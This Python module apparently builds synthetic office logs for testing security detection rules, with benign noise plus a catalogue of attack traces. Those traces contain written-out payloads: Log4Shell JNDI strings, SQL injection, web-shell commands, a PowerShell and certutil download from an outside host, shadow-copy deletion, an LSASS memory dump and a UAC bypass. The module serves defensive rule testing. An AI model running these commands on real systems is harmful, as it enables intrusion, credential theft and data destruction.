"""A day of an office of three hundred people, as its machines log it; and attacks that were hidden in it.

The day is written by rules of chance, not taken from anybody. It has in it what is known to set off rules for nothing:
old passwords that jobs go on trying, scripts that manage machines, virus scanners that look hashes up by DNS, monitors,
crawlers, backups, words of SQL in searches. The attacks are worn as they are in the wild, varied beyond the cases by
which the rules are held (`tests/shipped_rules`).
"""
# ruff: noqa: E501  (a line of a log is one line)

import random
from collections.abc import Callable, Iterator
from itertools import count
from typing import Final

from tests.shipped_rules.lines import at, bind, eve, fortinet, iis, run, script, security, syslog, sysmon, web, windows

DAY: Final = 86_400.0
STAFF: Final = 300
_BROWSERS: Final = tuple(f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Trinhduyet/{n}.0" for n in range(90, 125))
_PAGES: Final = (
    "/", "/tin-tuc/", "/thu-tuc/cap-giay-phep", "/van-ban?so=123&nam=2026", "/tim-kiem?q=select+phong+hop+union+cong+doan",
    "/tim-kiem?q=c%C3%A1ch+%C4%91%C4%83ng+k%C3%BD", "/api/v1/ho-so?trang=2", "/tai-len/2026/04/thong-bao.pdf", "/favicon.ico",
    "/images/../images/logo.png", "/lich-tiep-dan?tu=2026-04-30&den=2026-05-03", "/wp-content/uploads/anh.jpg",
)  # fmt: skip
_SHELL: Final = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_CMD: Final = r"C:\Windows\System32\cmd.exe"
_SERVICES: Final = r"C:\Windows\System32\services.exe"
_AGENT: Final = r"C:\Program Files\Quan Ly May\tacnhan.exe"
Logs = dict[str, list[str]]


def clean_day(seed: int = 20260430) -> Logs:
    """By file, in the order of time: a day without an attack."""
    dice = random.Random(seed)
    return {
        "web/access.log": list(_web(dice)),
        "mang/dns.log": list(_dns(dice)),
        "mang/tuong-lua.log": list(_firewall(dice)),
        "mang/vpn.log": list(_vpn(dice)),
        "mang/eve.json": list(_sensor(dice)),
        "linux/auth.log": list(_linux(dice)),
        "windows/security.jsonl": list(_sign_ins(dice)),
        "windows/sysmon.jsonl": list(_programs(dice)),
    }


def _times(dice: random.Random, many: int) -> list[float]:
    """More in the hours of work, which begin with the day here."""
    return sorted(dice.triangular(0, DAY, 4 * 3600) for _ in range(many))


def _web(dice: random.Random) -> Iterator[str]:
    monitor = [(n * 10.0, "monitor") for n in range(int(DAY / 10))]
    crawler = [(n * 20.0, "crawler") for n in range(int(DAY / 20))]
    for s, who in sorted([*((s, "reader") for s in _times(dice, 40_000)), *monitor, *crawler]):
        if who == "monitor":
            yield web("/suc-khoe", ip="203.0.113.250", agent="giam-sat/2.1", s=s)
        elif who == "crawler":
            gone = dice.random() < 0.3
            yield web(
                f"/bai/{dice.randrange(9999)}",
                ip="203.0.113.251",
                status=404 if gone else 200,
                agent="Mozilla/5.0 (compatible; Bobo/2.0)",
                s=s,
            )
        elif dice.random() < 0.01:  # somebody signs in, and not always at once
            yield web(
                "/dang-nhap",
                method="POST",
                status=401 if dice.random() < 0.2 else 302,
                ip=f"203.0.113.{dice.randrange(1, 200)}",
                s=s,
            )
        else:
            page = dice.choice(_PAGES)
            status = 404 if page == "/favicon.ico" else 200
            yield web(page, status=status, ip=f"203.0.113.{dice.randrange(1, 200)}", agent=dice.choice(_BROWSERS), s=s)


def _dns(dice: random.Random) -> Iterator[str]:
    for s in _times(dice, 40_000):
        src = f"10.0.{dice.randrange(3)}.{dice.randrange(1, 100)}"
        kind = dice.random()
        if kind < 0.03:  # a distributor of content names its machines by numbers
            yield bind(f"d{dice.getrandbits(128):032x}.phanphoi.example", src=src, s=s)
        elif kind < 0.05:  # a mail server asks for keys; names are read backwards
            yield bind("s2026._domainkey.coquan.example", src="10.0.0.25", s=s)
        elif kind < 0.06:
            yield bind(f"{dice.randrange(255)}.2.0.192.in-addr.arpa", src=src, s=s)
        elif kind < 0.07:  # a virus scanner asks for a hash
            yield bind(f"{dice.getrandbits(128):032x}.danh-gia.example", src="10.0.0.30", s=s)
        else:
            yield bind(f"www{dice.randrange(400)}.coquan.example", src=src, s=s)


def _firewall(dice: random.Random) -> Iterator[str]:
    for s in _times(dice, 30_000):
        src = f"10.0.{dice.randrange(3)}.{dice.randrange(1, 100)}"
        kind = dice.random()
        if kind < 0.03:  # something inside asks for what nobody lets it have
            yield fortinet(
                "traffic",
                srcip=src,
                dstip=f"198.51.100.{dice.randrange(255)}",
                dstport=dice.choice((25, 123, 6881, 8080)),
                action="deny",
                s=s,
            )
        elif kind < 0.05:  # the monitor looks at every server
            yield fortinet(
                "traffic",
                srcip="10.0.0.9",
                dstip=f"10.0.9.{dice.randrange(1, 40)}",
                dstport=dice.choice((22, 80, 443, 3389)),
                action="accept",
                s=s,
            )
        elif kind < 0.055:  # the backup, and meetings
            yield fortinet(
                "traffic",
                srcip=src,
                dstip="198.51.100.7",
                dstport=443,
                sentbyte=dice.randrange(10**7, 4 * 10**7),
                action="close",
                s=s,
            )
        else:
            yield fortinet(
                "traffic",
                srcip=src,
                dstip=f"198.51.100.{dice.randrange(255)}",
                dstport=443,
                sentbyte=dice.randrange(10**5),
                action="close",
                s=s,
            )


def _vpn(dice: random.Random) -> Iterator[str]:
    for s in _times(dice, 300):
        who, ip = f"nv{dice.randrange(STAFF)}", f"203.0.113.{dice.randrange(1, 200)}"
        for n in range(dice.choice((0, 0, 0, 1, 2, 3))):
            yield fortinet("event", subtype="vpn", action="ssl-login-fail", remip=ip, user=who, s=s + n * 7)
        yield fortinet("event", subtype="vpn", action="tunnel-up", tunneltype="ssl-web", remip=ip, user=who, s=s + 40)


def _sensor(dice: random.Random) -> Iterator[str]:
    for s in _times(dice, 5_000):
        src = f"10.0.{dice.randrange(3)}.{dice.randrange(1, 100)}"
        if dice.random() < 0.02:
            alert = {
                "signature": "ET POLICY outdated browser",
                "category": "Potential Corporate Privacy Violation",
                "severity": 3,
            }
            yield eve("alert", s=s, src=src, alert=alert)
        else:
            yield eve(
                "flow", s=s, src=src, flow={"bytes_toserver": dice.randrange(10**5), "state": "closed"}, dest_port=443
            )


def _linux(dice: random.Random) -> Iterator[str]:
    job = [(n * 600.0, "job") for n in range(int(DAY / 600))]
    managed = [(n * 900.0 + m * 2, "managed") for n in range(int(DAY / 900)) for m in range(20)]
    for s, what in sorted([*((s, "person") for s in _times(dice, 200)), *job, *managed]):
        if what == "job":  # its password was changed and nobody told it
            yield syslog("sshd[900]", "Failed password for saoluu from 10.0.0.40 port 50122 ssh2", s=s, host="kho1")
        elif what == "managed":
            host = f"may{dice.randrange(20)}"
            yield syslog(
                "sshd[901]",
                "Accepted publickey for trienkhai from 10.0.0.41 port 40000 ssh2: ED25519 SHA256:abc",
                s=s,
                host=host,
            )
            yield syslog(
                "sudo",
                "trienkhai : PWD=/home/trienkhai ; USER=root ; COMMAND=/bin/sh -c echo OK ; /usr/bin/python3 /tmp/ansible/setup.py",
                s=s + 1,
                host=host,
            )
        else:
            who, ip, host = f"qt{dice.randrange(6)}", f"10.0.1.{dice.randrange(1, 9)}", f"may{dice.randrange(20)}"
            for n in range(dice.choice((0, 0, 1, 2))):
                yield syslog(
                    "sshd[902]", f"Failed password for {who} from {ip} port 50{n}01 ssh2", s=s + n * 4, host=host
                )
            yield syslog("sshd[902]", f"Accepted password for {who} from {ip} port 50901 ssh2", s=s + 15, host=host)
            yield syslog(
                "sudo",
                f"{who} : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/apt-get upgrade",
                s=s + 60,
                host=host,
            )
            if dice.random() < 0.2:
                yield syslog(
                    "CRON[77]",
                    "(root) CMD (/usr/bin/curl -fsS https://giamsat.coquan.example/nhip > /dev/null)",
                    s=s + 70,
                    host=host,
                )


def _sign_ins(dice: random.Random) -> Iterator[str]:
    job = [(n * 300.0, "job") for n in range(int(DAY / 300))]
    for s, what in sorted([*((s, "person") for s in _times(dice, 3_000)), *job]):
        pc = f"MAY{dice.randrange(STAFF)}.noibo.example"
        if what == "job":  # a service with an old password, four times an hour on each of three machines
            yield security(
                4625,
                TargetUserName="dv-quet",
                IpAddress="10.0.0.40",
                LogonType=3,
                Status="0xc000006d",
                s=s,
                computer="TEP1.noibo.example",
            )
            continue
        who, ip = f"nv{dice.randrange(STAFF)}", f"10.0.{dice.randrange(3)}.{dice.randrange(1, 100)}"
        for n in range(dice.choice((0, 0, 0, 0, 1, 2))):
            yield security(
                4625,
                TargetUserName=who,
                IpAddress=ip,
                LogonType=dice.choice((2, 3, 7, 10)),
                Status="0xc000006a",
                s=s + n * 5,
                computer=pc,
            )
        yield security(
            4624,
            TargetUserName=who,
            IpAddress=ip,
            LogonType=dice.choice((2, 3, 7, 10)),
            AuthenticationPackageName="Kerberos",
            s=s + 20,
            computer=pc,
        )


def _programs(dice: random.Random) -> Iterator[str]:
    work = (
        (
            r"C:\Program Files\Van Phong\vanphong.exe",
            'vanphong.exe /mo "Bao cao thang 4.docx"',
            r"C:\Windows\explorer.exe",
        ),
        (
            _SHELL,
            "powershell.exe -NoLogo -NonInteractive -NoProfile -ExecutionPolicy Bypass & 'C:\\Windows\\CCM\\kiemke.ps1'",
            _AGENT,
        ),
        (_SHELL, "powershell.exe Get-Service | Export-Csv dich-vu.csv", r"C:\Windows\explorer.exe"),
        (_CMD, 'cmd.exe /c "C:\\Cong viec\\xuat.bat"', r"C:\Windows\System32\svchost.exe"),
        (r"C:\Windows\System32\vssadmin.exe", "vssadmin list shadows", r"C:\Program Files\Sao Luu\saoluu.exe"),
        (r"C:\Windows\System32\schtasks.exe", 'schtasks /Run /TN "Cap nhat phan mem"', _AGENT),
        (r"C:\Windows\System32\reg.exe", r"reg query HKLM\SOFTWARE\CoQuan /v PhienBan", _AGENT),
        (
            r"C:\Windows\System32\rundll32.exe",
            r"rundll32.exe printui.dll,PrintUIEntry /ga /n\\in1\tang3",
            r"C:\Windows\System32\svchost.exe",
        ),
        (r"C:\Windows\System32\msiexec.exe", r"msiexec.exe /i \\tep1\phanmem\ketoan.msi /qn", _AGENT),
        (r"C:\Windows\System32\certutil.exe", "certutil -verifystore Root", r"C:\Windows\System32\cmd.exe"),
        (r"C:\Windows\System32\wevtutil.exe", "wevtutil qe System /c:20 /rd:true /f:text", _AGENT),
        (r"C:\Windows\System32\net.exe", "net user nv12 /domain", r"C:\Windows\System32\cmd.exe"),
    )
    for s in _times(dice, 12_000):
        pc = f"MAY{dice.randrange(STAFF)}.noibo.example"
        kind = dice.random()
        if kind < 0.80:
            image, command, parent = dice.choice(work)
            yield run(command, image=image, ParentImage=parent, s=s, computer=pc)
        elif kind < 0.88:  # updates put themselves where they start again
            yield sysmon(
                13,
                EventType="SetValue",
                TargetObject=r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\CapNhat",
                Details=r"C:\Program Files\Ke Toan\capnhat.exe /nen",
                Image=r"C:\Program Files\Ke Toan\caidat.exe",
                s=s,
                computer=pc,
            )
        elif kind < 0.95:  # the virus scanner and the manager look into LSASS with little right
            yield sysmon(
                10,
                SourceImage=r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe",
                TargetImage=r"C:\Windows\System32\lsass.exe",
                GrantedAccess="0x1000",
                s=s,
                computer=pc,
            )
        elif kind < 0.97:
            yield script(
                "Get-ChildItem C:\\Users | Measure-Object; Invoke-WebRequest https://capnhat.coquan.example/phienban.txt -OutFile $env:TEMP\\pb.txt"
            )
        else:
            yield sysmon(
                11,
                Image=r"C:\Windows\System32\inetsrv\w3wp.exe",
                TargetFilename=r"C:\inetpub\logs\bo-dem\trang.tmp",
                s=s,
                computer="WEB1.noibo.example",
            )


def _spread(begin: float, step: float, many: int, line: Callable[[int, float], str]) -> list[str]:
    return [line(n, begin + n * step) for n in range(many)]


def attacks() -> dict[str, Logs]:
    """By what it is: the lines that it left, by file. Begin and pace vary; none is at the same time as another."""
    begins = count(3600, 2400)
    far = "198.51.100.66"

    def web_lines(*asked: str, status: int = 200, method: str = "GET", **more: str) -> Logs:
        s = float(next(begins))
        return {
            "web": [web(one, status=status, method=method, ip=far, s=s + n * 9, **more) for n, one in enumerate(asked)]
        }

    def on_windows(*lines: str) -> Logs:
        return {"windows": list(lines)}

    s = float(next(begins))
    found: dict[str, Logs] = {
        "SSH: a list of passwords, two a second": {
            "linux": _spread(s, 0.5, 200, lambda n, s: syslog("sshd[31]", f"Failed password for root from {far} port {40000 + n} ssh2", s=s, host="cong1"))
        },
        "SSH: one password for many accounts, one in 40 s": {
            "linux": _spread(s + 900, 40, 14, lambda n, s: syslog("sshd[32]", f"Failed password for invalid user {'nguyen' * (n % 2)}an{n} from 198.51.100.67 port 401{n:02} ssh2", s=s, host="cong1"))
        },
        "SSH: guessed and let in": {
            "linux": [
                *_spread(s + 7200, 3, 60, lambda n, s: syslog("sshd[33]", f"Failed password for hoa from 198.51.100.68 port {41000 + n} ssh2", s=s, host="cong2")),
                syslog("sshd[33]", "Accepted password for hoa from 198.51.100.68 port 41999 ssh2", s=s + 7400, host="cong2"),
            ]
        },
        "SSH: forty machines try one account, a minute apart": {
            "linux": _spread(s + 9000, 60, 40, lambda n, s: syslog("sshd[34]", f"Failed password for quantri from 203.0.113.{n + 200 if n < 50 else n} port 5122 ssh2", s=s, host="cong3"))
        },
        "SSH: one try every three minutes, all day": {
            "linux": _spread(600, 180, 400, lambda n, s: syslog("sshd[35]", f"Failed password for postgres from 198.51.100.69 port {42000 + n} ssh2", s=s, host="cong4"))
        },
        "Log4Shell in a header, nested": web_lines("/", agent="${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}ap://198.51.100.66:1389/x}"),
        "Log4Shell in a query, percent-encoded": web_lines("/tim-kiem?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.66%2Fa%7D"),
        "Spring4Shell, parameters in the address": web_lines("/dang-ky?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", status=400),
        "Spring4Shell's shell is called": web_lines("/tomcatwar.jsp?pwd=j&cmd=id"),
        "Spring Cloud Function": web_lines("/functionRouter", method="POST", status=500),
        "Paths that climb, encoded twice over": web_lines("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/tai?tep=..%2f..%2f..%2f..%2fetc%2fpasswd"),
        "SQL in a parameter": web_lines("/van-ban?so=1%20UNION%20SELECT%20username,password%20FROM%20users--", "/van-ban?so=1'+AND+SLEEP(5)--+-"),
        "A scanner with a browser's name, 404 after 404": {
            "web": _spread(float(next(begins)), 1, 120, lambda n, s: web(f"/quan-tri-{n}/", status=404, ip=far, agent=_BROWSERS[1], s=s))
        },
        "A scanner that says its name": web_lines(*(f"/x{n}" for n in range(5)), status=404, agent="Mozilla/5.00 (Nikto/2.1.6)"),
        "A flood of one page": {
            "web": _spread(float(next(begins)), 0.05, 2400, lambda n, s: web(f"/tim-kiem?q={n}", status=503 if n > 600 else 200, ip="198.51.100.70", agent=_BROWSERS[2], s=s))
        },
        "Settings with passwords are fetched": web_lines("/.env", "/.git/config"),
        "A web shell in the folder of uploads": web_lines("/tai-len/2026/04/anh.php?cmd=whoami", "/tai-len/2026/04/anh.php?cmd=cat+/etc/passwd"),
        "Passwords of the web application are guessed": {
            "web": _spread(float(next(begins)), 2, 90, lambda n, s: web("/dang-nhap", method="POST", status=401, ip="198.51.100.71", s=s))
        },
        "Exchange: ProxyShell": {"iis": iis("/autodiscover/autodiscover.json", "@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@evil.example", method="POST")},
        "DNS tunnel": {
            "dns": _spread(float(next(begins)), 0.4, 600, lambda n, s: bind(f"{n:04x}{'k7' * 22}.t.{'a' * 10}.example", src="10.0.2.77", s=s))
        },
        "Inside: ports of a server one after the other": {
            "fw": _spread(float(next(begins)), 1, 200, lambda n, s: fortinet("traffic", srcip="10.0.2.78", dstip="10.0.9.5", dstport=n + 1, action="deny", s=s))
        },
        "Inside: a worm looks for SMB": {
            "fw": _spread(float(next(begins)), 0.5, 250, lambda n, s: fortinet("traffic", srcip="10.0.2.79", dstip=f"10.0.{n // 250 + 5}.{n % 250}", dstport=445, action="deny", s=s))
        },
        "Four gigabytes leave": {
            "eve": _spread(float(next(begins)), 60, 40, lambda n, s: eve("flow", s=s, src="10.0.2.80", dst="203.0.113.199", flow={"bytes_toserver": 10**8, "state": "closed"}, dest_port=443))
        },
        "Remote desktop is open to the Internet": {
            "fw": [fortinet("traffic", srcip="203.0.113.198", dstip="10.0.9.8", dstport=3389, action="accept", s=float(next(begins)))]
        },
        "VPN: guessed and let in": {
            "vpn": [
                *_spread(s + 50_000, 5, 40, lambda n, s: fortinet("event", subtype="vpn", action="ssl-login-fail", remip="203.0.113.197", user=f"nv{n % 3}", s=s)),
                fortinet("event", subtype="vpn", action="tunnel-up", tunneltype="ssl-tunnel", remip="203.0.113.197", user="nv1", s=s + 50_230),
            ]
        },
        "Windows: RDP passwords guessed and let in": {
            "windows": [
                *_spread(s + 52_000, 2, 80, lambda n, s: security(4625, TargetUserName="administrator", IpAddress="203.0.113.196", LogonType=3, Status="0xc000006d", s=s, computer="TEP1.noibo.example")),
                security(4624, TargetUserName="administrator", IpAddress="203.0.113.196", LogonType=10, AuthenticationPackageName="NTLM", s=s + 52_200, computer="TEP1.noibo.example"),
            ]
        },
        "A macro starts PowerShell": on_windows(run("powershell -nop -w hidden -e SQBFAFgAIAAoAE4AZQB3AA==", image=_SHELL, ParentImage=r"C:\Program Files (x86)\Microsoft Office\Office15\EXCEL.EXE", s=54_000)),
        "PowerShell, its words cut to pieces": on_windows(script("$k=(('h'+'ttp')+(':'+'//')+('198.51'+'.100'+'.6')+('6/'+'a'));&('ne'+'w-'+'obje'+'ct') neT.WEbcLiENt|%{$_.\"d`oWn`loAdFi`le\"($k,$env:temp+'\\a.exe')}")),
        "certutil fetches a program": on_windows(run(r"certutil.exe -urlcache -split -f http://198.51.100.66/a.txt C:\Users\Public\a.exe", image=r"C:\Windows\System32\certutil.exe", ParentImage=_CMD, s=55_000)),
        "Shadow copies are deleted by WMI": on_windows(run("wmic.exe SHADOWCOPY DELETE /nointeractive", image=r"C:\Windows\System32\wbem\WMIC.exe", ParentImage=_CMD, s=56_000)),
        "LSASS is written to a file": on_windows(run(r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 640 C:\Windows\Temp\l.dmp full", image=r"C:\Windows\System32\rundll32.exe", ParentImage=_CMD, s=57_000)),
        "A service that is a shell": on_windows(windows("System", "Service Control Manager", 7045, ServiceName="BTOBTO", ImagePath=r"%COMSPEC% /Q /c echo whoami ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat", StartType="demand start", s=58_000)),
        "A pipe by which a program becomes the system": on_windows(run(r"cmd.exe /c echo ylnvkc > \\.\pipe\ylnvkc", image=_CMD, ParentImage=_SERVICES, User=r"NT AUTHORITY\SYSTEM", IntegrityLevel="System", s=58_500)),
        "A command from another machine (WinRM)": on_windows(run("cmd.exe /C whoami /all", image=_CMD, ParentImage=r"C:\Windows\System32\winrshost.exe", s=59_000)),
        "A command from another machine (WMI)": on_windows(run(r"cmd.exe /Q /c net localgroup administrators 1> \\127.0.0.1\ADMIN$\__1588 2>&1", image=_CMD, ParentImage=r"C:\Windows\System32\wbem\WmiPrvSE.exe", s=59_500)),
        "Elevation without a question (UAC)": on_windows(
            sysmon(13, EventType="SetValue", TargetObject=r"HKU\S-1-5-21-1-2-3-1001_Classes\ms-settings\shell\open\command\(Default)", Details=r"C:\Windows\System32\cmd.exe /c start a.exe", Image=_SHELL, s=60_000),
            run(r"C:\Windows\System32\cmd.exe /c start a.exe", image=_CMD, ParentImage=r"C:\Windows\System32\fodhelper.exe", IntegrityLevel="High", s=60_003),
        ),
        "The keyboard on the screen is a shell": on_windows(sysmon(13, EventType="SetValue", TargetObject=r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger", Details=r"C:\Windows\System32\cmd.exe", Image=r"C:\Windows\System32\reg.exe", s=61_000)),
        "A new account becomes an administrator": on_windows(
            security(4720, TargetUserName="hotro", TargetSid="S-1-5-21-1-2-3-1777", SubjectUserName="an", s=62_000),
            security(4732, TargetUserName="Administrators", TargetSid="S-1-5-32-544", MemberSid="S-1-5-21-1-2-3-1777", s=62_040),
        ),
        "The security log is cleared": on_windows(windows("Security", "Microsoft-Windows-Eventlog", 1102, SubjectUserName="an", s=63_000)),
        "SQL Server runs a command": on_windows(windows("Application", "MSSQLSERVER", 15457, Data=["xp_cmdshell", "0", "1"], s=63_500)),
        "Defender is switched off": on_windows(run("powershell Set-MpPreference -DisableRealtimeMonitoring $true", image=_SHELL, ParentImage=_CMD, s=64_000)),
        "The domain's passwords are asked for": on_windows(
            security(4662, SubjectUserName="an", ObjectServer="DS", AccessMask="0x100", Properties="%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}", s=65_000),
            security(4662, SubjectUserName="an", ObjectServer="DS", AccessMask="0x100", Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}", s=65_001),
        ),
        "IIS starts a shell": on_windows(run("cmd.exe /c ipconfig /all", image=_CMD, ParentImage=r"C:\Windows\System32\inetsrv\w3wp.exe", s=66_000)),
    }  # fmt: skip
    return found


__all__ = ["DAY", "at", "attacks", "clean_day"]
